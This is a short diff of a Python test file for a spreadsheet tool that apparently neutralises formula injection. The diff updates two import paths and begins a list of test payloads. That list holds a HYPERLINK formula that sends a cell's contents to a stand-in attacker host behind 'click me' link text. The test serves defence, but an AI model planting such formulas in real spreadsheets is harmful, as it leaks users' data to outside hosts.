@@ -9,8 +9,8 @@ import pytest
 import xlsxwriter
 from click.testing import CliRunner
 
-from pyaddin.cli import main
-from pyaddin.safe_text import INJECTION_PREFIXES, neutralise
+from pyaddin.cli.main import main
+from pyaddin.run.safe_text import INJECTION_PREFIXES, neutralise
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点我")',
